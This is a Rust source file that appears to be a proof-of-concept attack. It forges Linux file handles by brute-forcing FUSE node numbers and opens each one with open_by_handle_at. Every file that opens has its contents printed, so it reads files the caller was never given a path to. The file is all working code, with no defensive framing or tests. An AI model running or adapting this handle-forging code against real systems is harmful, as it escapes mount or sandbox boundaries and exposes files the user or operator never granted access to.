//! File handles that were never given: name_to_handle_at(2), open_by_handle_at(2).

use std::ffi::CString;
use std::fs::File;
use std::io::{self, Read};
use std::os::fd::{AsRawFd, FromRawFd};
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

/// `struct file_handle` with room for the handles of any file system.
#[repr(C)]
struct Handle {
    bytes: u32,
    kind: i32,
    handle: [u8; 128],
}

/// Opens every handle near that of `directory`, and says what the files contain.
pub fn forge(directory: &Path) -> io::Result<()> {
    let path = CString::new(directory.as_os_str().as_bytes())?;
    let mut handle = Handle {
        bytes: 128,
        kind: 0,
        handle: [0; 128],
    };
    let mut mount = 0;
    // SAFETY: the path ends in a zero, and the handle has as much room as it says.
    let named = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            path.as_ptr(),
            &raw mut handle,
            &raw mut mount,
            0,
        )
    };
    if named < 0 {
        return Err(io::Error::last_os_error());
    }
    println!("handle: {:x?}", &handle.handle[..handle.bytes as usize]);
    let mounted = File::open(directory)?;
    let (mut opened, mut refused) = (0, 0);
    let numbers = (0..2000).chain([u64::MAX, u64::MAX / 2]);
    for number in numbers.flat_map(|number| [number, number << 48 | 2]) {
        // struct fuse_fid: the node's number, its upper half first.
        let [a, b, c, d, high @ ..] = number.to_le_bytes();
        handle.handle[..4].copy_from_slice(&high);
        handle.handle[4..8].copy_from_slice(&[a, b, c, d]);
        let flags = libc::O_RDONLY | libc::O_NONBLOCK;
        // SAFETY: the handle has as much in it as it says.
        let file = unsafe {
            libc::syscall(
                libc::SYS_open_by_handle_at,
                mounted.as_raw_fd(),
                &raw const handle,
                flags,
            )
        };
        let Some(file) = i32::try_from(file).ok().filter(|file| *file >= 0) else {
            refused += 1;
            continue;
        };
        // SAFETY: it was opened just now, and nobody else knows of it.
        let mut file = unsafe { File::from_raw_fd(file) };
        let mut text = String::new();
        // A directory cannot be read.
        let _ = file.read_to_string(&mut text);
        println!("opened {number:#x}: {text}");
        opened += 1;
    }
    println!("handles: {opened} opened, {refused} refused");
    Ok(())
}
